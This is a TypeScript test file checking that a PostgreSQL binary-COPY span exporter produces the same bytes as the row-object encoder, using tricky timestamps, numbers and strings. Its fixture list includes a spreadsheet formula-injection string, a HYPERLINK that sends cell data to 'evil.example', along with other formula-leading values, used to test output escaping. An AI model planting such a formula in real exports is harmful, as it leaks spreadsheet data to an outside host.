/**
 * The COPY fast path must give exactly the bytes of the row-object path: binary
 * COPY tuples are built here the way PostgreSQL sends them, the same values go
 * through `ExportEncoder` as the rows `exportBatches` makes (lib/export/store.ts
 * spansPlan.toRow: numbers from text, times via isoMicros), and both outputs
 * are compared byte for byte, with the input cut at every kind of boundary.
 */
import { describe, expect, it } from 'vitest';
import { EXPORT_FORMATS, ExportEncoder, type ExportFormat, type ExportRow } from './format';
import { EXPORT_COLUMNS } from './kinds';
import { SpanCopyEncoder, SPAN_COPY_COLUMNS } from './span-copy';
import { isoMicros } from './store';

interface Span {
  traceId: string;
  spanId: string;
  parentSpanId: string | null;
  sagaId: string | null;
  service: string;
  name: string;
  kind: number;
  startUs: bigint;
  endUs: bigint;
  durationMs: number;
  statusCode: number;
  statusMessage: string | null;
  sagaName: string | null;
  protocol: string | null;
  role: string | null;
  step: string | null;
  stepIndex: number | null;
  branchId: string | null;
  op: string | null;
  attempt: number | null;
  result: string | null;
  actionUrl: string | null;
  compensateUrl: string | null;
  idempotencyKey: string | null;
  attributes: string;
  resource: string | null;
  events: string | null;
  receivedUs: bigint;
}

const PG_EPOCH_US = 946_684_800_000_000n;
const us = (iso: string, extraMicros = 0) => BigInt(Date.parse(iso)) * 1000n + BigInt(extraMicros);

const NASTY = [
  '',
  '=HYPERLINK("http://evil.example/?"&A1,"click")',
  '+1',
  '-2',
  '@sum',
  '\tTAB',
  '\rCR first',
  "'quoted already",
  'a,b',
  'say "hi"',
  'line\nbreak',
  'crlf\r\nend',
  'back\\slash',
  'ctrl \u0001\u0008\u000b\u000c\u001f done',
  'ünïcödé ✓ 日本語 😀',
  '\u2028\u2029 separators',
  'del \u007f',
];

function baseSpan(i: number): Span {
  const t = us('2026-11-21T10:00:00.000Z', i * 1_234_567);
  return {
    traceId: `${i.toString(16).padStart(32, '0')}`,
    spanId: `${(i * 7).toString(16).padStart(16, '0')}`,
    parentSpanId: i % 3 === 0 ? null : 'aaaaaaaaaaaaaaaa',
    sagaId: i % 4 === 0 ? null : `saga-${i}`,
    service: NASTY[i % NASTY.length]!,
    name: NASTY[(i + 5) % NASTY.length]!,
    kind: (i % 5) + 1,
    startUs: t,
    endUs: t + BigInt(i * 1001),
    durationMs: i * 1.001,
    statusCode: i % 3,
    statusMessage: i % 2 ? NASTY[(i + 9) % NASTY.length]! : null,
    sagaName: 'checkout',
    protocol: i % 2 ? 'saga' : null,
    role: 'participant',
    step: `step-${i}`,
    stepIndex: i % 2 ? i : null,
    branchId: null,
    op: 'action',
    attempt: i % 3 ? 1 : null,
    result: null,
    actionUrl: 'http://x.example/a?b=1,2',
    compensateUrl: null,
    idempotencyKey: '-key',
    attributes: JSON.stringify({ 'saga.id': `saga-${i}`, note: NASTY[i % NASTY.length], n: i }).replaceAll(':', ': ').replaceAll(',"', ', "'),
    resource: i % 5 ? '{"service.name": "orders", "x": "=1,2"}' : null,
    events: i % 2 ? '[{"name": "retry", "attributes": {}}]' : i % 7 === 0 ? '-1' : null,
    receivedUs: us('2026-11-21T10:00:05.000Z', i),
  };
}

const SPANS: Span[] = [
  ...Array.from({ length: 40 }, (_, i) => baseSpan(i)),
  // Times: whole seconds, pre-1970, pre-2000, far future (BigInt path), odd durations.
  { ...baseSpan(100), startUs: us('2026-11-21T10:00:00.000Z'), endUs: us('1969-12-31T23:59:59.999Z', 999), durationMs: 5e-7 },
  { ...baseSpan(101), startUs: us('1999-12-31T23:59:59.000Z', 1), endUs: us('2000-01-01T00:00:00.000Z'), durationMs: 1e21 },
  { ...baseSpan(102), startUs: us('1600-02-29T12:00:00.000Z', 123), endUs: us('9999-12-31T23:59:59.999Z', 999), durationMs: 0.1 + 0.2 },
  { ...baseSpan(103), startUs: us('+010000-01-01T00:00:00.000Z', 5), endUs: us('-000001-06-01T00:00:00.000Z', 7), durationMs: -0 },
  { ...baseSpan(104), durationMs: Number.NaN, stepIndex: -2147483648, attempt: 2147483647, kind: -32768, statusCode: 32767 },
  { ...baseSpan(105), durationMs: Number.POSITIVE_INFINITY, receivedUs: us('2026-11-21T10:00:05.000Z', 999_999) },
  { ...baseSpan(106), durationMs: Number.NEGATIVE_INFINITY, attributes: '{}', resource: '{}', events: '[]' },
  // Long values (over 64 bytes take another code path): with and without anything to escape or guard.
  { ...baseSpan(120), statusMessage: NASTY.join(' | '), name: `=${'x'.repeat(100)}`, step: 'y'.repeat(200), attributes: `{"k": "${'z'.repeat(100)}"}` },
  { ...baseSpan(121), statusMessage: `-${'ü'.repeat(80)}`, name: `${'a'.repeat(70)},b`, step: `${'q'.repeat(70)}\n"` },
  ...[1e15, 999_999_999_999_999, -5, -1e15 - 2, 2 ** 53, 1e-7, 123.5].map((durationMs, i) => ({ ...baseSpan(107 + i), durationMs })),
];

/** One tuple of `COPY … (FORMAT binary)` for SPAN_COPY_COLUMNS. */
function tuple(s: Span): Buffer {
  const parts: Buffer[] = [];
  const int16 = (v: number) => Buffer.from([(v >> 8) & 0xff, v & 0xff]);
  parts.push(int16(SPAN_COPY_COLUMNS.length));
  const field = (b: Buffer | null) => {
    const len = Buffer.alloc(4);
    len.writeInt32BE(b === null ? -1 : b.length);
    parts.push(len);
    if (b) parts.push(b);
  };
  const text = (v: string | null) => field(v === null ? null : Buffer.from(v, 'utf8'));
  const jsonb = (v: string | null) => field(v === null ? null : Buffer.concat([Buffer.from([1]), Buffer.from(v, 'utf8')]));
  const i2 = (v: number) => field(int16(v));
  const i4 = (v: number | null) => {
    if (v === null) return field(null);
    const b = Buffer.alloc(4);
    b.writeInt32BE(v);
    field(b);
  };
  const f8 = (v: number) => {
    const b = Buffer.alloc(8);
    b.writeDoubleBE(v);
    field(b);
  };
  const ts = (v: bigint) => {
    const b = Buffer.alloc(8);
    b.writeBigInt64BE(v - PG_EPOCH_US);
    field(b);
  };
  text(s.traceId), text(s.spanId), text(s.parentSpanId), text(s.sagaId), text(s.service), text(s.name);
  i2(s.kind), ts(s.startUs), ts(s.endUs), f8(s.durationMs), i2(s.statusCode);
  text(s.statusMessage), text(s.sagaName), text(s.protocol), text(s.role), text(s.step);
  i4(s.stepIndex), text(s.branchId), text(s.op), i4(s.attempt), text(s.result);
  text(s.actionUrl), text(s.compensateUrl), text(s.idempotencyKey);
  jsonb(s.attributes), jsonb(s.resource), jsonb(s.events), ts(s.receivedUs);
  return Buffer.concat(parts);
}

const HEADER = Buffer.concat([Buffer.from('PGCOPY\n\xff\r\n\0', 'latin1'), Buffer.alloc(8)]);
const TRAILER = Buffer.from([0xff, 0xff]);
const page = (spans: Span[]) => Buffer.concat([HEADER, ...spans.map(tuple), TRAILER]);

/** What spansPlan.toRow makes of the text PostgreSQL would send for the same values. */
function toRow(s: Span): ExportRow {
  const pgFloatText = (v: number) => (Number.isNaN(v) ? 'NaN' : v === Infinity ? 'Infinity' : v === -Infinity ? '-Infinity' : String(v));
  return {
    ...s,
    startedAt: isoMicros(String(s.startUs)),
    endedAt: isoMicros(String(s.endUs)),
    receivedAt: isoMicros(String(s.receivedUs)),
    durationMs: Number(pgFloatText(s.durationMs)),
  } as unknown as ExportRow;
}

function expected(format: ExportFormat, spans: Span[]): Buffer {
  const e = new ExportEncoder(format, EXPORT_COLUMNS.spans);
  return Buffer.from(e.header() + spans.map((s) => e.row(toRow(s))).join('') + e.footer(), 'utf8');
}

function viaCopy(format: ExportFormat, pages: Span[][], cut: (b: Buffer) => Buffer[], chunkBytes?: number): { body: Buffer; rows: number; lastKeys: ([string, string] | null)[] } {
  const enc = new SpanCopyEncoder(format, chunkBytes);
  const out: Buffer[] = [];
  const lastKeys: ([string, string] | null)[] = [];
  for (const p of pages) {
    enc.beginPage();
    for (const piece of cut(page(p))) {
      enc.push(piece);
      out.push(...enc.take());
    }
    expect(enc.pageEnded).toBe(true);
    expect(enc.rowsInPage).toBe(p.length);
    lastKeys.push(enc.lastRowKey);
    out.push(...enc.flush());
  }
  out.push(...enc.finish());
  return { body: Buffer.concat(out), rows: enc.rowCount, lastKeys };
}

const whole = (b: Buffer) => [b];
const every = (n: number) => (b: Buffer) => Array.from({ length: Math.ceil(b.length / n) }, (_, i) => b.subarray(i * n, (i + 1) * n));

describe('SpanCopyEncoder', () => {
  it('has one copied column per exported span column', () => {
    expect(SPAN_COPY_COLUMNS).toHaveLength(EXPORT_COLUMNS.spans.length);
  });

  for (const format of EXPORT_FORMATS) {
    it(`${format}: the same bytes as ExportEncoder over the row objects, however the input is cut`, () => {
      const want = expected(format, SPANS);
      const pages = [SPANS.slice(0, 17), SPANS.slice(17, 18), SPANS.slice(18)];
      for (const cut of [whole, every(1), every(3), every(7), every(64), every(1000)]) {
        const got = viaCopy(format, pages, cut);
        expect(got.rows).toBe(SPANS.length);
        expect(got.body.toString('utf8')).toBe(want.toString('utf8'));
        expect(got.body.equals(want)).toBe(true);
      }
      // Tiny output buffers: rows that do not fit one buffer.
      expect(viaCopy(format, pages, every(100), 16).body.equals(want)).toBe(true);
    });

    it(`${format}: no rows, and empty pages`, () => {
      expect(viaCopy(format, [[]], whole).body.equals(expected(format, []))).toBe(true);
      expect(viaCopy(format, [], whole).body.equals(expected(format, []))).toBe(true);
      expect(viaCopy(format, [SPANS.slice(0, 2), []], whole).body.equals(expected(format, SPANS.slice(0, 2)))).toBe(true);
    });
  }

  it('gives the last row key of each page (the next keyset page starts after it)', () => {
    const got = viaCopy('csv', [SPANS.slice(0, 3), SPANS.slice(3, 5)], every(5));
    expect(got.lastKeys).toEqual([
      [SPANS[2]!.traceId, SPANS[2]!.spanId],
      [SPANS[4]!.traceId, SPANS[4]!.spanId],
    ]);
  });

  it('refuses an infinite timestamp, as the text path does', () => {
    const enc = new SpanCopyEncoder('ndjson');
    enc.beginPage();
    const inf = { ...SPANS[0]!, startUs: 0x7fffffffffffffffn + PG_EPOCH_US };
    expect(() => enc.push(page([inf]))).toThrow(/infinite/);
  });

  it('refuses bytes that are not a binary COPY', () => {
    const enc = new SpanCopyEncoder('csv');
    enc.beginPage();
    expect(() => enc.push(Buffer.from('trace\tspan\n'.repeat(4)))).toThrow(/binary COPY/);
  });
});
